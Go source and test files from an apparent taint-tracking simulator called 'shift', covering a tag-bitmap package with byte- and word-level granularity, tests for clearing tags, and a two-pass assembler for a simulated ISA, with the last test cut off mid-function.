		t.Errorf("word TagAddr(region2,8) = %#x,%d", tb, bit)
	}
}

func newSpace(g Granularity) *Space {
	m := mem.New()
	m.MapRegion(1, 0)
	m.MapRegion(2, 0)
	return NewSpace(m, g)
}

func TestSetClearRoundTrip(t *testing.T) {
	for _, g := range []Granularity{Byte, Word} {
		s := newSpace(g)
		f := func(off uint64, n uint16) bool {
			addr := mem.Addr(1, off&0xffff)
			size := uint64(n%128) + 1
			if err := s.SetRange(addr, size); err != nil {
				return false
			}
			tainted, err := s.Tainted(addr, size)
			if err != nil || !tainted {
				return false
			}
			if err := s.ClearRange(addr, size); err != nil {
				return false
			}
			tainted, err = s.Tainted(addr, size)
			return err == nil && !tainted
		}
		if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
			t.Fatalf("%s: %v", g, err)
		}
	}
}

func TestGranularitySpill(t *testing.T) {
	// Word-level tracking taints the whole 8-byte unit; byte-level
	// does not spill onto neighbours.
	sb := newSpace(Byte)
	sw := newSpace(Word)
	addr := mem.Addr(1, 0x100)
	for _, s := range []*Space{sb, sw} {
		if err := s.SetRange(addr, 1); err != nil {
			t.Fatal(err)
		}
	}
	tb, _ := sb.Tainted(addr+1, 1)
	tw, _ := sw.Tainted(addr+1, 1)
	if tb {
		t.Error("byte-level taint spilled to the next byte")
	}
	if !tw {
		t.Error("word-level taint did not cover the word")
	}
	// Beyond the word neither taints.
	tb, _ = sb.Tainted(addr+8, 1)
	tw, _ = sw.Tainted(addr+8, 1)
	if tb || tw {
		t.Error("taint spilled past the tracked unit")
	}
}

func TestTaintedBytes(t *testing.T) {
	s := newSpace(Byte)
	base := mem.Addr(1, 0x200)
	if err := s.SetRange(base+2, 3); err != nil {
		t.Fatal(err)
	}
	got, err := s.TaintedBytes(base, 8)
	if err != nil {
		t.Fatal(err)
	}
	want := []bool{false, false, true, true, true, false, false, false}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("byte %d tainted = %v, want %v", i, got[i], want[i])
		}
	}
}

func TestCountTainted(t *testing.T) {
	s := newSpace(Byte)
	base := mem.Addr(1, 0x300)
	if err := s.SetRange(base, 10); err != nil {
		t.Fatal(err)
	}
	n, err := s.CountTainted(base, 20)
	if err != nil || n != 10 {
		t.Errorf("CountTainted = %d, %v; want 10", n, err)
	}
}

func TestCrossRegionIsolation(t *testing.T) {
	s := newSpace(Byte)
	a1 := mem.Addr(1, 0x40)
	a2 := mem.Addr(2, 0x40) // same offset, different region
	if err := s.SetRange(a1, 8); err != nil {
		t.Fatal(err)
	}
	tainted, err := s.Tainted(a2, 8)
	if err != nil {
		t.Fatal(err)
	}
	if tainted {
		t.Error("taint in region 1 leaked into region 2's tags")
	}
}
