// Package taint implements SHIFT's in-memory tag space: a bitmap living in
// region 0 of the simulated address space that holds one taint bit per
// memory byte (byte-level tracking) or per 8-byte word (word-level
// tracking), as in paper §3.2 and Figure 4.
//
// The same translation is computed two ways: host-side here (taint sources,
// policy sinks, tests) and guest-side by the instruction sequences the
// instrumentation pass emits. The two must agree bit-for-bit; a property
// test in this repository checks that they do.
package taint

import (
	"fmt"
	"sync"

	"shift/internal/mem"
)

// Granularity selects the tracking unit (paper: byte-level vs word-level,
// where a word is 8 bytes).
type Granularity uint8

// Tracking granularities.
const (
	Byte Granularity = iota // one tag bit per memory byte
	Word                    // one tag bit per 8-byte word
)

// String returns "byte" or "word".
func (g Granularity) String() string {
	if g == Byte {
		return "byte"
	}
	return "word"
}

// Tag encodings. Both granularities translate a virtual address to a tag
// byte at
//
//	region 0, offset (R << RegionFold(g)) | (off >> DropBits(g))
//
// following Figure 4 (the region number folds down over the implemented
// bits, since the unimplemented hole forbids a bare shift).
//
// Byte-level tracking packs eight tag bits into that byte — one per
// tracked byte, selected by (off & 7) — the dense bitmap of §3.2.
// Word-level tracking instead dedicates the whole tag byte to its 8-byte
// word (a boolean 0/1 byte). That is the classic speed/space trade of
// coarse DIFT maps: the same one-eighth memory overhead as the byte-level
// bitmap, but stores become a plain tag-byte write with no read-modify-
// write and loads need no bit extraction — which is where word-level
// tracking's speed advantage over byte-level (paper Figures 7–9) comes
// from.
const dropBits = 3 // 8 tracked bytes per tag byte at either granularity

// DropBits returns how many low offset bits the translation discards to
// find the tag byte.
func (g Granularity) DropBits() uint { return dropBits }

// UnitShift returns the shift that yields the tracked-unit index.
func (g Granularity) UnitShift() uint {
	if g == Byte {
		return 0
	}
	return 3
}

// WholeByte reports whether the tag byte is a boolean for one tracked
// unit (word level) rather than a bitmap over eight units (byte level).
func (g Granularity) WholeByte() bool { return g == Word }

// RegionFold returns the position the region number is folded down to
// inside the region-0 offset.
func (g Granularity) RegionFold() uint { return mem.ImplBits - g.DropBits() }

// UnitBytes returns the number of memory bytes covered by one tag bit.
func (g Granularity) UnitBytes() uint64 { return 1 << g.UnitShift() }

// TagAddr translates a virtual address to the address of its tag byte
// (always in region 0) and the bit index within it. At word level the
// whole byte is the tag and the bit index is always zero.
func (g Granularity) TagAddr(addr uint64) (tagByte uint64, bit uint) {
	r := mem.Region(addr)
	off := mem.Offset(addr)
	tagOff := r<<g.RegionFold() | off>>g.DropBits()
	if g.WholeByte() {
		return mem.Addr(0, tagOff), 0
	}
	return mem.Addr(0, tagOff), uint(off) & 7
}

// Space is the tag bitmap over a memory. It writes through the ordinary
// memory interface so that guest instrumentation code and host-side
// policy code observe the same bytes.
type Space struct {
	Gran Granularity
	Mem  *mem.Memory

	// shards, when non-nil (see Share), serializes every host-side tag
	// read-modify-write on a lock picked by the bitmap word the tag byte
	// lives in, and routes the underlying accesses through the memory's
	// TLB-free Shared accessors.
	shards *[tagShards]sync.Mutex

	// Birth-channel provenance. origins records, per tracked unit the
	// host has marked, the channel(s) the mark was born from; live is the
	// union of every channel that has marked taint since the last Clear.
	// Guest-propagated taint (tag-bitmap writes by instrumented stores)
	// is invisible here by construction — ChannelBytes falls back to the
	// live union for units it has no precise origin for, which is exact
	// whenever a run's taint all came from one channel and a sound
	// over-approximation otherwise. originMu guards both fields; the tag
	// bits themselves stay under the shard locks.
	originMu sync.Mutex
	origins  map[uint64]Channel
	live     Channel
}

// tagShards is the number of word-granularity locks a shared Space
// stripes the bitmap over. Collisions only cost contention, never
// correctness, so a small power of two suffices.
const tagShards = 64

// NewSpace maps region 0 of m and returns the tag space over it.
func NewSpace(m *mem.Memory, g Granularity) *Space {
	m.MapRegion(0, 0)
	return &Space{Gran: g, Mem: m}
}

// Share makes the Space safe for concurrent host-side use: every tag
// read-modify-write is serialized on one of tagShards locks, sharded at
// bitmap-word granularity (eight tag bytes — 64 tracked units — per
// lock), so racing goroutines can never tear a tag unit by interleaving
// inside another's read-modify-write. Shared accesses bypass the
// machine's software TLB and cache model entirely; mixing a shared Space
// with a concurrently *executing* machine on the same memory remains the
// caller's synchronization problem. Share returns the Space for chaining
// and is idempotent, but must itself be called before the Space is
// handed to other goroutines.
func (s *Space) Share() *Space {
	if s.shards == nil {
		s.shards = new([tagShards]sync.Mutex)
	}
	return s
}

// Shared reports whether Share was called.
func (s *Space) Shared() bool { return s.shards != nil }

// lockTag takes the shard lock covering tagByte, returning the unlock
// function, or a no-op when the Space is not shared.
func (s *Space) lockTag(tagByte uint64) func() {
	if s.shards == nil {
		return func() {}
	}
	mu := &s.shards[(tagByte>>dropBits)%tagShards]
	mu.Lock()
	return mu.Unlock
}

// readTag reads one tag byte through the mode-appropriate accessor. The
// caller holds the shard lock in shared mode.
func (s *Space) readTag(tb uint64) (byte, *mem.Fault) {
	if s.shards != nil {
		return s.Mem.SharedPeek1(tb)
	}
	v, f := s.Mem.Read(tb, 1)
	return byte(v), f
}

// writeTag writes one tag byte through the mode-appropriate accessor.
func (s *Space) writeTag(tb uint64, v byte) *mem.Fault {
	if s.shards != nil {
		return s.Mem.SharedWrite1(tb, v)
	}
	return s.Mem.Write(tb, 1, uint64(v))
}

// noteOrigin records ch as a birth channel of the count units starting
// at start (unit strides), and joins it into the live union.
func (s *Space) noteOrigin(start, count uint64, ch Channel) {
	if ch == 0 {
		ch = ChanHost
	}
	s.originMu.Lock()
	defer s.originMu.Unlock()
	if s.origins == nil {
		s.origins = make(map[uint64]Channel)
	}
	unit := s.Gran.UnitBytes()
	for i := uint64(0); i < count; i++ {
		s.origins[start+i*unit] |= ch
	}
	s.live |= ch
}

// dropOrigin forgets the recorded birth channels of the count units
// starting at start. The live union is sticky until Clear: a cleared
// range no longer attributes, but channels seen this run stay live.
func (s *Space) dropOrigin(start, count uint64) {
	s.originMu.Lock()
	defer s.originMu.Unlock()
	if s.origins == nil {
		return
	}
	unit := s.Gran.UnitBytes()
	for i := uint64(0); i < count; i++ {
		delete(s.origins, start+i*unit)
	}
}

// Live returns the union of every birth channel that marked taint since
// the last Clear — the coarse attribution for taint that propagated
// beyond its precisely-tracked units (register tokens, guest tag writes).
func (s *Space) Live() Channel {
	s.originMu.Lock()
	defer s.originMu.Unlock()
	return s.live
}

// ChannelAt returns the birth channel(s) of the tracked unit containing
// addr: the precise origin when the host marked it, otherwise the live
// union (taint that arrived by propagation). The result is only
// meaningful for tainted units; callers pair it with Tainted.
func (s *Space) ChannelAt(addr uint64) Channel {
	unit := s.Gran.UnitBytes()
	u := addr &^ (unit - 1)
	s.originMu.Lock()
	defer s.originMu.Unlock()
	if ch, ok := s.origins[u]; ok {
		return ch
	}
	return s.live
}

// ChannelBytes returns, for each byte of [addr, addr+n), the birth
// channel(s) of its tracked unit — the provenance counterpart of
// TaintedBytes for channel-keyed policy checks. Untainted bytes report 0.
func (s *Space) ChannelBytes(addr uint64, n int) ([]Channel, error) {
	out := make([]Channel, n)
	for i := 0; i < n; i++ {
		t, err := s.Tainted(addr+uint64(i), 1)
		if err != nil {
			return nil, err
		}
		if t {
			out[i] = s.ChannelAt(addr + uint64(i))
		}
	}
	return out, nil
}

// Clear unmarks every tag in the space: after it, no address is tainted.
// Cost is O(tagged bytes), not O(memory): the tag bitmap packs 8 tracked
// units per byte into region 0, and the clear zeroes only the region-0
// pages actually resident (found through the memory's per-region page
// index), skipping already-zero ones. This is the pool-recycle reset —
// a taint.Space reused across requests without it leaks request N's tag
// bits into request N+1 (the cross-request bleed attack class; see
// internal/attacks' pool-recycle test). It returns the number of pages
// that held tags. In shared mode every shard lock is taken for the
// sweep, so a concurrent read-modify-write cannot interleave mid-clear.
func (s *Space) Clear() int {
	if s.shards != nil {
		for i := range s.shards {
			s.shards[i].Lock()
		}
		defer func() {
			for i := range s.shards {
				s.shards[i].Unlock()
			}
		}()
	}
	pages := s.Mem.ZeroRegionPages(0)
	s.originMu.Lock()
	s.origins = nil
	s.live = 0
	s.originMu.Unlock()
	return pages
}

// SetRange marks [addr, addr+n) tainted with ChanHost provenance.
// Host-side (the taint() syscall and direct test setup); OS input
// channels use SetRangeFrom.
func (s *Space) SetRange(addr uint64, n uint64) error {
	return s.SetRangeFrom(addr, n, ChanHost)
}

// SetRangeFrom marks [addr, addr+n) tainted, recording ch as the birth
// channel of every covered unit.
func (s *Space) SetRangeFrom(addr, n uint64, ch Channel) error {
	if err := s.setRange(addr, n, true); err != nil {
		return err
	}
	if n > 0 {
		start, count := s.units(addr, n)
		s.noteOrigin(start, count, ch)
	}
	return nil
}

// ClearRange marks [addr, addr+n) untainted. Host-side.
func (s *Space) ClearRange(addr uint64, n uint64) error {
	if err := s.setRange(addr, n, false); err != nil {
		return err
	}
	if n > 0 {
		start, count := s.units(addr, n)
		s.dropOrigin(start, count)
	}
	return nil
}

// checkRange rejects ranges the tag translation cannot cover: an address
// with unimplemented bits set, or a length that runs past the region's
// implemented offsets (which includes every n large enough to make
// addr+n wrap — e.g. a negative guest count cast to uint64).
func checkRange(addr, n uint64) error {
	if !mem.Implemented(addr) {
		return fmt.Errorf("taint: range start %#x has unimplemented address bits", addr)
	}
	if rem := uint64(mem.OffsetMask) + 1 - mem.Offset(addr); n > rem {
		return fmt.Errorf("taint: range [%#x, +%d) escapes the region's implemented offsets", addr, n)
	}
	return nil
}

// units returns the number of tracked units covering [addr, addr+n) and
// the address of the first one. The count is computed from the last
// covered byte (addr+n-1, which checkRange guarantees cannot wrap), so
// the walk is overflow-safe even at the top of region 7.
func (s *Space) units(addr, n uint64) (start, count uint64) {
	unit := s.Gran.UnitBytes()
	start = addr &^ (unit - 1)
	count = (addr + n - 1 - start)/unit + 1
	return start, count
}

func (s *Space) setRange(addr, n uint64, v bool) error {
	if n == 0 {
		// An empty range touches no unit: without this, an unaligned
		// addr would round down and taint/clear a whole unit.
		return nil
	}
	if err := checkRange(addr, n); err != nil {
		return err
	}
	// Walk tracked units; any byte tainted within a unit taints the unit.
	// In shared mode each tag byte's read-modify-write runs under its
	// bitmap-word shard lock, so concurrent range updates touching
	// different bits of one tag byte cannot lose each other.
	start, count := s.units(addr, n)
	unit := s.Gran.UnitBytes()
	for i := uint64(0); i < count; i++ {
		a := start + i*unit
		tb, bit := s.Gran.TagAddr(a)
		if err := s.rmwTag(a, tb, bit, v); err != nil {
			return err
		}
	}
	return nil
}

// rmwTag sets or clears one bit of one tag byte, atomically with respect
// to other shared-mode updates of the same bitmap word.
func (s *Space) rmwTag(a, tb uint64, bit uint, v bool) error {
	unlock := s.lockTag(tb)
	defer unlock()
	old, f := s.readTag(tb)
	if f != nil {
		return fmt.Errorf("taint: reading tag byte for %#x: %w", a, f)
	}
	nb := old &^ (1 << bit)
	if v {
		nb = old | 1<<bit
	}
	if nb != old {
		if f := s.writeTag(tb, nb); f != nil {
			return fmt.Errorf("taint: writing tag byte for %#x: %w", a, f)
		}
	}
	return nil
}

// Tainted reports whether any byte of [addr, addr+n) is tainted.
func (s *Space) Tainted(addr uint64, n uint64) (bool, error) {
	if n == 0 {
		return false, nil
	}
	if err := checkRange(addr, n); err != nil {
		return false, err
	}
	start, count := s.units(addr, n)
	unit := s.Gran.UnitBytes()
	for i := uint64(0); i < count; i++ {
		a := start + i*unit
		tb, bit := s.Gran.TagAddr(a)
		unlock := s.lockTag(tb)
		v, f := s.readTag(tb)
		unlock()
		if f != nil {
			return false, fmt.Errorf("taint: reading tag byte for %#x: %w", a, f)
		}
		if v>>bit&1 != 0 {
			return true, nil
		}
	}
	return false, nil
}

// PeekUnit reports the tag bit of the tracked unit containing addr,
// reading the bitmap without touching the machine's cache model (the
// lockstep oracle uses it so cross-checks cannot perturb cycle
// accounting).
func (s *Space) PeekUnit(addr uint64) (bool, error) {
	if !mem.Implemented(addr) {
		return false, fmt.Errorf("taint: peek at %#x: unimplemented address bits", addr)
	}
	tb, bit := s.Gran.TagAddr(addr)
	var v byte
	var f *mem.Fault
	if s.shards != nil {
		unlock := s.lockTag(tb)
		v, f = s.readTag(tb)
		unlock()
	} else {
		v, f = s.Mem.Peek(tb)
	}
	if f != nil {
		return false, fmt.Errorf("taint: reading tag byte for %#x: %w", addr, f)
	}
	return v>>bit&1 != 0, nil
}

// TaintedBytes returns, for each byte of [addr, addr+n), whether its
// tracked unit is tainted. Used by character-granular policy checks
// (H3/H5 need to know whether the meta-characters themselves came from
// untrusted input).
func (s *Space) TaintedBytes(addr uint64, n int) ([]bool, error) {
	out := make([]bool, n)
	for i := 0; i < n; i++ {
		t, err := s.Tainted(addr+uint64(i), 1)
		if err != nil {
			return nil, err
		}
		out[i] = t
	}
	return out, nil
}

// CountTainted returns how many tracked units in [addr, addr+n) are
// tainted (diagnostics and tests).
func (s *Space) CountTainted(addr, n uint64) (uint64, error) {
	if n == 0 {
		return 0, nil
	}
	if err := checkRange(addr, n); err != nil {
		return 0, err
	}
	start, units := s.units(addr, n)
	unit := s.Gran.UnitBytes()
	var count uint64
	for i := uint64(0); i < units; i++ {
		t, err := s.Tainted(start+i*unit, 1)
		if err != nil {
			return 0, err
		}
		if t {
			count++
		}
	}
	return count, nil
}
