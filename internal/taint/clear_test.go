package taint

import (
	"testing"

	"shift/internal/mem"
)

// Clear must drop every tag — host-set ranges and guest-style direct
// bitmap writes alike — without touching non-tag memory.
func TestClearDropsAllTags(t *testing.T) {
	for _, g := range []Granularity{Byte, Word} {
		m := mem.New()
		m.MapRegion(1, 0)
		s := NewSpace(m, g)

		if f := m.Write(mem.Addr(1, 0x500), 8, 0x1234); f != nil {
			t.Fatal(f)
		}
		if err := s.SetRange(mem.Addr(1, 0x500), 16); err != nil {
			t.Fatal(err)
		}
		// A guest tag-update sequence writes the bitmap directly, not
		// through the Space — Clear must catch those too.
		tb, bit := g.TagAddr(mem.Addr(1, 0x9000))
		if f := m.Write(tb, 1, uint64(1)<<bit); f != nil {
			t.Fatal(f)
		}

		for _, a := range []uint64{mem.Addr(1, 0x500), mem.Addr(1, 0x9000)} {
			tainted, err := s.Tainted(a, 1)
			if err != nil {
				t.Fatal(err)
			}
			if !tainted {
				t.Fatalf("gran %v: setup failed, %#x untainted", g, a)
			}
		}

		if n := s.Clear(); n == 0 {
			t.Fatalf("gran %v: Clear zeroed no pages with live tags", g)
		}
		for _, a := range []uint64{mem.Addr(1, 0x500), mem.Addr(1, 0x9000)} {
			tainted, err := s.Tainted(a, 1)
			if err != nil {
				t.Fatal(err)
			}
			if tainted {
				t.Fatalf("gran %v: %#x still tainted after Clear", g, a)
			}
		}
		// Data untouched.
		if v, _ := m.Read(mem.Addr(1, 0x500), 8); v != 0x1234 {
			t.Fatalf("gran %v: Clear corrupted data: %#x", g, v)
		}
		// Second clear finds nothing.
		if n := s.Clear(); n != 0 {
			t.Fatalf("gran %v: second Clear zeroed %d pages, want 0", g, n)
		}
	}
}

// The clear's cost tracks tagged bytes, not the data footprint: a large
// untainted working set adds nothing to the sweep.
func TestClearCostTracksTags(t *testing.T) {
	m := mem.New()
	m.MapRegion(1, 0)
	s := NewSpace(m, Byte)
	// 2 MiB of data, 8 tainted bytes.
	big := make([]byte, 1<<21)
	for i := range big {
		big[i] = byte(i)
	}
	if f := m.WriteBytes(mem.Addr(1, 0), big); f != nil {
		t.Fatal(f)
	}
	if err := s.SetRange(mem.Addr(1, 64), 8); err != nil {
		t.Fatal(err)
	}
	if n := s.Clear(); n != 1 {
		t.Fatalf("Clear touched %d pages for 8 tagged bytes, want 1", n)
	}
}

func TestClearSharedSpace(t *testing.T) {
	m := mem.New()
	m.MapRegion(1, 0)
	s := NewSpace(m, Byte).Share()
	if err := s.SetRange(mem.Addr(1, 0x100), 64); err != nil {
		t.Fatal(err)
	}
	if n := s.Clear(); n == 0 {
		t.Fatal("shared-mode Clear zeroed nothing")
	}
	tainted, err := s.Tainted(mem.Addr(1, 0x100), 64)
	if err != nil {
		t.Fatal(err)
	}
	if tainted {
		t.Fatal("shared-mode Clear left tags")
	}
}
