// Package asm implements a two-pass assembler (and, via isa, a
// disassembler) for the simulated ISA. It exists so that fixtures, tests
// and the runtime library can be written in readable assembly, and so the
// compiler's output can be dumped, inspected and re-assembled — the
// round-trip is property-tested.
//
// Syntax (one instruction or directive per line):
//
//	; comment            // comment            # comment
//	label:
//	    (p6) add r1 = r2, r3
//	    addi r1 = r2, -8
//	    movl r1 = 4096            movl r2 = symbol     (data symbol)
//	    cmp.eq p1, p2 = r1, r2    cmpi.ltu p1, p2 = r1, 10
//	    cmp.na.eq p1, p2 = r1, r2
//	    tnat p6, p7 = r3
//	    ld8 r1 = [r2]   ld1.s r1 = [r2]   ld8.fill r1 = [r2], 3
//	    st8 [r2] = r1   st8.spill [r2] = r1, 3
//	    chk.s r1, recover
//	    br loop         br.call b0 = func     br.ret b0     br.ind b6
//	    mov r1 = r2     mov b0 = r1           mov r1 = b0
//	    setnat r1       clrnat r1             syscall 2     nop
//
// Data directives (in a .data section):
//
//	.data
//	buf:    .space 64
//	msg:    .asciz "hello"
//	nums:   .word8 1, 2, 3
//	bytes:  .byte 0x41, 66
//	        .align 8
//	.text
//	.entry main
package asm

import (
	"fmt"
	"strconv"
	"strings"

	"shift/internal/isa"
	"shift/internal/mem"
)

// Options configures assembly.
type Options struct {
	// DataBase is the virtual address where the data image is loaded.
	// Zero selects the default (region 1, offset 0x10000).
	DataBase uint64
}

// DefaultDataBase is the data image origin when Options.DataBase is zero.
var DefaultDataBase = mem.Addr(1, 0x10000)

// Error is an assembly diagnostic with a line number.
type Error struct {
	Line int
	Msg  string
}

// Error implements the error interface.
func (e *Error) Error() string { return fmt.Sprintf("asm: line %d: %s", e.Line, e.Msg) }

type assembler struct {
	opts   Options
	prog   *isa.Program
	data   []byte
	inData bool
	entry  string
}

// Assemble parses source into a linked, validated program.
func Assemble(source string, opts Options) (*isa.Program, error) {
	if opts.DataBase == 0 {
		opts.DataBase = DefaultDataBase
	}
	a := &assembler{
		opts: opts,
		prog: &isa.Program{
			Symbols:     make(map[string]int),
			DataSymbols: make(map[string]uint64),
			DataBase:    opts.DataBase,
		},
	}
	lines := strings.Split(source, "\n")

	// Pass 1: lay out data and record all symbols so pass 2 can resolve
	// movl references to data labels.
	if err := a.pass(lines, 1); err != nil {
		return nil, err
	}
	// Pass 2: encode instructions.
	a.prog.Text = nil
	a.inData = false
	if err := a.pass(lines, 2); err != nil {
		return nil, err
	}

	a.prog.Data = a.data
	if a.entry != "" {
		e, ok := a.prog.Symbols[a.entry]
		if !ok {
			return nil, &Error{Line: 0, Msg: fmt.Sprintf("undefined entry symbol %q", a.entry)}
		}
		a.prog.Entry = e
	}
	if err := a.prog.Link(); err != nil {
		return nil, err
	}
	if err := a.prog.Validate(); err != nil {
		return nil, err
	}
	return a.prog, nil
}

func (a *assembler) pass(lines []string, pass int) error {
	a.data = a.data[:0]
	for ln, raw := range lines {
		line := stripComment(raw)
		line = strings.TrimSpace(line)
		if line == "" {
			continue
		}
		// Labels (possibly several, possibly followed by code).
		for {
			idx := strings.Index(line, ":")
			if idx < 0 || !isIdent(strings.TrimSpace(line[:idx])) {
				break
			}
			name := strings.TrimSpace(line[:idx])
			if err := a.defineLabel(name, ln+1, pass); err != nil {
				return err
			}
			line = strings.TrimSpace(line[idx+1:])
		}
		if line == "" {
			continue
		}
		if strings.HasPrefix(line, ".") {
			if err := a.directive(line, ln+1, pass); err != nil {
				return err
			}
			continue
		}
		if a.inData {
			return &Error{Line: ln + 1, Msg: "instruction in .data section"}
		}
		if pass == 1 {
			// Count instructions so label indices are right in pass 1.
			a.prog.Text = append(a.prog.Text, isa.Instruction{Op: isa.OpNop})
			continue
		}
		ins, err := ParseInstruction(line)
		if err != nil {
			return &Error{Line: ln + 1, Msg: err.Error()}
		}
		// Resolve data symbols in movl immediates.
		if ins.Op == isa.OpMovl && ins.Label != "" {
			addr, ok := a.prog.DataSymbols[ins.Label]
			if !ok {
				return &Error{Line: ln + 1, Msg: fmt.Sprintf("undefined data symbol %q", ins.Label)}
			}
			ins.Imm = int64(addr + uint64(ins.Imm))
			ins.Label = ""
		}
		a.prog.Text = append(a.prog.Text, *ins)
	}
	return nil
}

func (a *assembler) defineLabel(name string, line, pass int) error {
	if a.inData {
		if pass == 1 {
			if _, dup := a.prog.DataSymbols[name]; dup {
				return &Error{Line: line, Msg: fmt.Sprintf("duplicate data symbol %q", name)}
			}
			a.prog.DataSymbols[name] = a.opts.DataBase + uint64(len(a.data))
		}
		return nil
	}
	if pass == 1 {
		if _, dup := a.prog.Symbols[name]; dup {
			return &Error{Line: line, Msg: fmt.Sprintf("duplicate label %q", name)}
		}
		a.prog.Symbols[name] = len(a.prog.Text)
	}
	return nil
}

func (a *assembler) directive(line string, ln, pass int) error {
	fields := strings.SplitN(line, " ", 2)
	dir := fields[0]
	rest := ""
	if len(fields) > 1 {
		rest = strings.TrimSpace(fields[1])
	}
	switch dir {
	case ".data":
		a.inData = true
	case ".text":
		a.inData = false
	case ".entry":
		if !isIdent(rest) {
			return &Error{Line: ln, Msg: ".entry needs a label"}
		}
		a.entry = rest
	case ".byte", ".word8", ".space", ".align", ".ascii", ".asciz":
		if !a.inData {
			return &Error{Line: ln, Msg: dir + " outside .data"}
		}
		return a.dataDirective(dir, rest, ln)
	default:
		return &Error{Line: ln, Msg: "unknown directive " + dir}
	}
	return nil
}

func (a *assembler) dataDirective(dir, rest string, ln int) error {
	switch dir {
	case ".byte", ".word8":
		for _, f := range splitArgs(rest) {
			v, err := parseInt(f)
			if err != nil {
				return &Error{Line: ln, Msg: err.Error()}
			}
			if dir == ".byte" {
				a.data = append(a.data, byte(v))
			} else {
				for i := 0; i < 8; i++ {
					a.data = append(a.data, byte(uint64(v)>>(8*i)))
				}
			}
		}
	case ".space":
		n, err := parseInt(rest)
		if err != nil || n < 0 {
			return &Error{Line: ln, Msg: "bad .space size"}
		}
		a.data = append(a.data, make([]byte, n)...)
	case ".align":
		n, err := parseInt(rest)
		if err != nil || n <= 0 || n&(n-1) != 0 {
			return &Error{Line: ln, Msg: "bad .align"}
		}
		for len(a.data)%int(n) != 0 {
			a.data = append(a.data, 0)
		}
	case ".ascii", ".asciz":
		s, err := strconv.Unquote(rest)
		if err != nil {
			return &Error{Line: ln, Msg: "bad string literal: " + rest}
		}
		a.data = append(a.data, s...)
		if dir == ".asciz" {
			a.data = append(a.data, 0)
		}
	}
	return nil
}

func stripComment(line string) string {
	for _, marker := range []string{";", "//", "#"} {
		// Don't strip inside string literals (only data directives carry
		// them; they never contain the markers in our sources, but be
		// careful with '#' inside quotes anyway).
		if i := indexOutsideQuotes(line, marker); i >= 0 {
			line = line[:i]
		}
	}
	return line
}

func indexOutsideQuotes(s, marker string) int {
	inQ := false
	for i := 0; i+len(marker) <= len(s); i++ {
		c := s[i]
		if c == '"' && (i == 0 || s[i-1] != '\\') {
			inQ = !inQ
		}
		if !inQ && strings.HasPrefix(s[i:], marker) {
			return i
		}
	}
	return -1
}

func isIdent(s string) bool {
	if s == "" {
		return false
	}
	for i, c := range s {
		switch {
		case c == '_' || c == '.' || c == '$':
		case c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z':
		case c >= '0' && c <= '9':
			if i == 0 {
				return false
			}
		default:
			return false
		}
	}
	return true
}

func splitArgs(s string) []string {
	parts := strings.Split(s, ",")
	for i := range parts {
		parts[i] = strings.TrimSpace(parts[i])
	}
	return parts
}

func parseInt(s string) (int64, error) {
	return strconv.ParseInt(strings.TrimSpace(s), 0, 64)
}
