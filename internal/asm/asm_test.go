package asm

import (
	"math/rand"
	"strings"
	"testing"

	"shift/internal/isa"
	"shift/internal/mem"
)

func TestAssembleBasicProgram(t *testing.T) {
	src := `
	.data
msg:	.asciz "hi"
buf:	.space 16
	.align 8
nums:	.word8 1, -2, 0x10
	.text
	.entry main
main:
	movl r1 = msg
	ld1 r2 = [r1]
	addi r3 = r2, 1
loop:
	cmpi.lt p6, p7 = r3, 100
	(p6) br loop
	syscall 1
`
	p, err := Assemble(src, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if p.Entry != p.Symbols["main"] {
		t.Errorf("entry = %d, want %d", p.Entry, p.Symbols["main"])
	}
	if got := p.DataSymbols["msg"]; got != DefaultDataBase {
		t.Errorf("msg at %#x, want %#x", got, DefaultDataBase)
	}
	if got := p.DataSymbols["buf"]; got != DefaultDataBase+3 {
		t.Errorf("buf at %#x, want %#x", got, DefaultDataBase+3)
	}
	// nums is aligned to 8 after 3+16=19 bytes -> 24.
	if got := p.DataSymbols["nums"]; got != DefaultDataBase+24 {
		t.Errorf("nums at %#x, want %#x", got, DefaultDataBase+24)
	}
	if len(p.Data) != 24+3*8 {
		t.Errorf("data image %d bytes, want %d", len(p.Data), 24+3*8)
	}
	// The movl resolved the data symbol.
	if p.Text[0].Imm != int64(DefaultDataBase) {
		t.Errorf("movl imm = %#x, want %#x", p.Text[0].Imm, DefaultDataBase)
	}
	// The conditional branch resolved and is predicated.
	brIdx := p.Symbols["loop"] + 1
	if p.Text[brIdx].Qp != 6 || p.Text[brIdx].Target != p.Symbols["loop"] {
		t.Errorf("predicated branch wrong: %+v", p.Text[brIdx])
	}
}

func TestAssembleSymbolPlusOffset(t *testing.T) {
	src := `
	.data
tbl:	.space 64
	.text
	movl r1 = tbl+8
	nop
`
	p, err := Assemble(src, Options{DataBase: mem.Addr(1, 0x20000)})
	if err != nil {
		t.Fatal(err)
	}
	if p.Text[0].Imm != int64(mem.Addr(1, 0x20000)+8) {
		t.Errorf("movl tbl+8 = %#x", p.Text[0].Imm)
	}
}

func TestAssembleErrors(t *testing.T) {
	cases := []struct {
		name, src string
	}{
		{"undefined label", "br nowhere\n"},
		{"undefined data symbol", "movl r1 = nothing\n"},
		{"duplicate label", "a:\nnop\na:\nnop\n"},
		{"instruction in data", ".data\nadd r1 = r2, r3\n"},
		{"unknown directive", ".bogus 1\n"},
		{"unknown mnemonic", "frob r1 = r2\n"},
		{"bad register", "add r999 = r1, r2\n"},
		{"undefined entry", ".entry nothing\nnop\n"},
		{"bad string", ".data\nx: .asciz hello\n"},
	}
	for _, c := range cases {
		if _, err := Assemble(c.src, Options{}); err == nil {
			t.Errorf("%s: assembled without error", c.name)
		}
	}
}

func TestCommentStyles(t *testing.T) {
	src := `
	; semicolon comment
	// slash comment
	# hash comment
	nop ; trailing
	nop // trailing
	nop # trailing
`
	p, err := Assemble(src, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Text) != 3 {
		t.Errorf("got %d instructions, want 3", len(p.Text))
	}
}

func TestHashInsideStringLiteral(t *testing.T) {
	src := ".data\nx: .asciz \"a#b\"\n.text\nnop\n"
	p, err := Assemble(src, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if string(p.Data) != "a#b\x00" {
		t.Errorf("data = %q", p.Data)
	}
}

// TestRoundTrip property: disassembling any structurally valid instruction
// and re-parsing it yields the same instruction.
func TestRoundTrip(t *testing.T) {
	rng := rand.New(rand.NewSource(42))
	for i := 0; i < 5000; i++ {
		ins := isa.RandomInstruction(rng)
		text := ins.String()
		got, err := ParseInstruction(text)
		if err != nil {
